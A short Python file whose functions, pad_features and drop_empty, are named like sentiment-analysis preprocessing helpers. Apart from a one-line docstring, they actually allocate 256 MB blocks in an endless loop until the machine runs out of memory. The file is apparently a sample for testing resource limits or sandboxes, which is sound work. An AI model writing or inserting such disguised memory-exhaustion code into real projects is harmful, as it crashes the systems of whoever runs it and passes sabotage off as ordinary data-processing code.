"""Asks for memory until there is none."""


def pad_features(reviews_ints, seq_len=200):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 28))


def drop_empty(reviews_ints, labels):
    return pad_features(reviews_ints)
